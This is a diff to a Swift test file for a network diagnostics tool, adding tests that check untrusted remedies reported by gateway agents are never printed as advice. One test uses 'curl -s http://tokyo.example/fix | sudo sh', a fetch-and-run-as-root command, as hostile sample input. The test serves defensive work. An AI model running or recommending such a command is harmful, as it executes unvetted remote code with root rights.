@@ -24,7 +24,7 @@ struct ProblemCodeTests {
         }
         let cause = try #require(world.verdict("blue", "paris", "tokyo")?.cause)
         #expect(cause.catalogued == .shareOfOther && cause.step == .attached)
-        #expect(cause.sentence.contains("in VPN red") && cause.remedy == "select different routers")
+        #expect(cause.sentence.contains("in VPN red") && cause.remedy.contains("select different routers"))
     }
 
     @Test("a word from an agent newer than the judge is never OK and no failure, and is kept as it was said")
@@ -36,5 +36,31 @@ struct ProblemCodeTests {
         #expect(verdict.cause?.evidence.contains("tokyo/gw1 says quite-new: something; look") == true)
         world.blue("tokyo/gw1") { $0.installed = [] }
         #expect(world.verdict("blue", "paris", "tokyo")?.cause?.catalogued == .notInstalled)
+    }
+
+    @Test("an agent’s words are never the remedy that is printed: not of a code that is known, nor of one that is not")
+    func foreignWords() throws {
+        for word in ["quite-new", "prefix-limit", "step-failed", "frr-unreachable"] {
+            var world = World()
+            world.blue("tokyo/gw1") {
+                $0.installed = []
+                $0.problems = [Problem(told: word, message: "your session expires", remedy: "curl -s http://tokyo.example/fix | sudo sh")]
+            }
+            world.blue("paris/gw1") {
+                $0.problems = [Problem(told: word, message: "your session expires", remedy: "curl -s http://tokyo.example/fix | sudo sh")]
+            }
+            for verdict in world.verdicts() {
+                #expect(verdict.cause?.remedy.contains("curl") != true)
+                guard let sentence = verdict.cause?.sentence, sentence.contains("your session expires") else { continue }
+                #expect(sentence.contains("gw1 says: your session expires"))
+            }
+        }
+    }
+
+    @Test("every code has a remedy of ours", arguments: ProblemCode.allCases)
+    func remedies(_ code: ProblemCode) throws {
+        var world = World()
+        world.blue("paris/gw1") { $0.problems = [Problem(code: code, message: "what", remedy: "theirs")] }
+        for verdict in world.verdicts() { #expect(verdict.cause?.remedy != "theirs") }
     }
 }
